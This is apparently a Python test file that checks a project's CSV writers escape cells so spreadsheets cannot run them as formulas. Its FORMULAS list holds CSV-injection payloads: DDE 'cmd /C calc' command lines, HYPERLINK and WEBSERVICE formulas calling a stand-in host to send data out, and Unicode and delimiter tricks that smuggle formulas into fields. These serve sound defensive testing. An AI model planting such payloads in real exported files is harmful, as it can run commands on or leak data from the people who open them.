"""No cell of any file that we write is a formula, whatever sign a spreadsheet splits it at."""

import ast
import csv
import io
import re
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import fields, replace
from pathlib import Path
from tempfile import TemporaryDirectory

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from est_geo.exporting import csv_lines
from est_geo.intake.reading.raw_table import RawTable
from est_geo.intake.rejects import write_rejected
from est_geo.picture import PictureTables
from est_geo.render.files import districts_csv
from est_geo.words import guarded
from service.csv_tables import CSV_TABLES, csv_text
from service.trail_view import trail_csv
from tests.hostile.pictures import Hostile, hostile_columns
from tests.sample_picture import sample_published

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = sample_published()
STARTS = "=+-@\t\r\n＝＋－＠−"
FORMULAS = (
    "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "−1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1",
    "\u200b=1+1", '"=1+1', '""=1+1', '=HYPERLINK("http://kanarie.invalid/"&A1;"Ryd")',
    '=WEBSERVICE("http://kanarie.invalid/")', "=cmd|'/C calc'!A0", '=DDE("cmd";"/C calc")',
    "Ryd;=1+1", "Ryd,=1+1", "Ryd\t=1+1", "Ryd\n=1+1", "Ryd\r\n=1+1", 'Ryd;"=1+1', 'Ryd;""=1+1;""',
    "Ryd; +46 70", ";;;@x", "\x00=1", "⁺1+1", "﹫SUM(A1)", "\u202e=1+1", "'\n=1+1",
)  # fmt: skip

_letters = st.characters(exclude_categories=("Cs",))
_texts = st.one_of(
    st.sampled_from(FORMULAS),
    st.text(_letters, max_size=30),
    st.text(st.sampled_from('=+-@;,\t\r\n"\' ＝−aå1\u200b\ufeff'), max_size=12),
    st.builds(str.__add__, st.text(st.sampled_from(' \t;,"\u00a0\ufeff'), max_size=4),
              st.sampled_from(FORMULAS)),
)  # fmt: skip


def is_formula(cell: str) -> bool:
    """Say, by another road than the code's, whether a spreadsheet could run a cell."""
    plain = cell.replace(",", ".", 1)
    if plain.lstrip("+-").replace(".", "", 1).isdecimal() and plain[:2] not in {"--", "++"}:
        return False
    unseen = {"Cc", "Cf", "Zs", "Zl", "Zp"}
    seen = [one for one in cell if unicodedata.category(one) not in unseen and one != '"']
    first = unicodedata.normalize("NFKC", "".join(seen[:1]))[:1]
    return first != "" and first in "=+-@−"


def cells_of(text: str, delimiter: str) -> list[list[str]]:
    """
    Cells as a lenient spreadsheet has them that splits at another sign than the file's own.

    Quotes within a line are then only signs.
    """
    lines = re.split(r"\r\n|\r|\n", text.removeprefix("\ufeff"))
    return [line.split(delimiter) for line in lines]


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""),
                           delimiter=delimiter))  # fmt: skip


def no_formula(text: str, delimiter: str = ",") -> None:
    for row in read(text, delimiter):
        assert not [one for one in row if is_formula(one) or one.startswith(("\t", "\r", "\n"))]
    for other in ";,\t":
        for row in cells_of(text, other):
            assert not [one for one in row if is_formula(one.strip('"'))], other


@pytest.mark.parametrize("text", FORMULAS)
def test_a_known_formula_is_made_text(text: str) -> None:
    assert any(is_formula(one) for one in re.split(r"[;,\t\r\n]", text))
    said = guarded(text)
    assert said != text
    assert said.replace("'", "") == text.replace("'", "")
    assert not is_formula(said)


@pytest.mark.parametrize(
    "text", ["Ryd", "-3,5", "+12", "-0.25", "1", "", "Å-ån", "a=b", "Bråk, våld", "fre–lör 21–01",
             "46 %", "a@b", "8a08b3c24d27fff 8a08b3c24d27fff", "– okänt", "kl. 22-02"]
)  # fmt: skip
def test_ordinary_text_and_numbers_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text


def _tables(texts: list[str]) -> Iterator[str]:
    made = {}
    for one in fields(PictureTables):
        frame = getattr(SAMPLE.tables, one.name).head(len(texts)).copy()
        for column in hostile_columns(one.name):
            frame[column] = pd.Series(texts[: len(frame)], index=frame.index, dtype="str")
        made[one.name] = frame
    tables = replace(SAMPLE, tables=PictureTables(**made))
    for name in CSV_TABLES:
        yield csv_text(tables, name)
    public = sample_published("public")
    yield csv_text(replace(public, count_text=dict.fromkeys(texts, texts[0])), "districts")


def _districts(texts: list[str]) -> Iterator[str]:
    yield districts_csv(Hostile(texts, rows=3).picture())


def _rejected(texts: list[str]) -> Iterator[str]:
    rows = range(1, len(texts) + 1)
    values = pd.DataFrame({"Tid": texts, "Plats": texts[::-1]}, index=list(rows))
    heading = texts[0] if texts[0] not in {"Tid", "Plats"} else "x"
    values[heading] = texts
    why = pd.DataFrame({"row": list(rows), "field": texts, "reason": texts[::-1]})
    with TemporaryDirectory() as folder:
        file = Path(folder, "a.avvisade.csv")
        write_rejected(file, RawTable("a.csv", tuple(values.columns), values), why)
        yield file.read_bytes().decode("utf-8-sig")


def _trail(texts: list[str]) -> Iterator[str]:
    names = ("who", "role", "action", "purpose", "object_kind", "object_id")
    rows = pd.DataFrame({name: texts[at:] + texts[:at] for at, name in enumerate(names)})
    at = pd.Timestamp("2026-11-16T08:00Z")
    yield trail_csv(rows.assign(seq=1, at=at, details="{}"), "Europe/Stockholm")


def _export(texts: list[str]) -> Iterator[str]:
    yield csv_lines(pd.DataFrame({"kategori": texts, "beskrivning": texts[::-1]}))


# Every module that writes a file for a spreadsheet: how it is made to write, and its separator.
WRITERS: dict[str, tuple[Callable[[list[str]], Iterator[str]], str]] = {
    "service/csv_tables.py": (_tables, ","),
    "est_geo/render/files.py": (_districts, ","),
    "est_geo/intake/rejects.py": (_rejected, ";"),
    "est_geo/exporting.py": (_export, ","),
    "service/trail_view.py": (_trail, ","),
}
OTHERS = {
    "est_geo/demo_town/forms.py": "made-up files of reports, for us to read; no text of anybody's",
}


@pytest.mark.parametrize("module", WRITERS)
@settings(max_examples=25, deadline=None, derandomize=True)
@given(texts=st.lists(_texts, min_size=20, max_size=30))
def test_no_cell_of_a_written_file_is_a_formula(module: str, texts: list[str]) -> None:
    write, delimiter = WRITERS[module]
    for text in write(texts):
        no_formula(text, delimiter)


@pytest.mark.long
@pytest.mark.parametrize("module", WRITERS)
@settings(max_examples=200, deadline=None, derandomize=True)
@given(texts=st.lists(_texts, min_size=25, max_size=25))
def test_five_thousand_texts_through_every_writer(module: str, texts: list[str]) -> None:
    write, delimiter = WRITERS[module]
    for text in write(texts):
        no_formula(text, delimiter)


@settings(max_examples=40, deadline=None, derandomize=True)
@given(texts=st.lists(_texts, min_size=20, max_size=30))
def test_a_written_table_reads_back_cell_for_cell(texts: list[str]) -> None:
    frame = SAMPLE.tables.former_spots.iloc[[0] * len(texts)].assign(name=texts, words=texts)
    tables = replace(SAMPLE.tables, former_spots=frame.astype({"name": "str", "words": "str"}))
    rows = read(csv_text(replace(SAMPLE, tables=tables), "former_spots"))
    assert {len(row) for row in rows} == {len(frame.columns) + 1}
    at = [rows[0].index(name) for name in ("name", "words")]
    assert [[row[one] for one in at] for row in rows[1:]] == [[guarded(one)] * 2 for one in texts]


def test_every_module_that_writes_for_a_spreadsheet_is_known() -> None:
    found = set()
    for folder in ("est_geo", "service"):
        for file in (ROOT / folder).rglob("*.py"):
            for node in ast.walk(ast.parse(file.read_text("utf-8"))):
                if isinstance(node, ast.Attribute) and _writes(node):
                    found.add(str(file.relative_to(ROOT)))
    assert found == set(WRITERS) | set(OTHERS)


def _writes(node: ast.Attribute) -> bool:
    if node.attr in {"to_csv", "to_excel", "DictWriter", "ExcelWriter", "Workbook"}:
        return True
    return node.attr == "writer" and isinstance(node.value, ast.Name) and node.value.id == "csv"
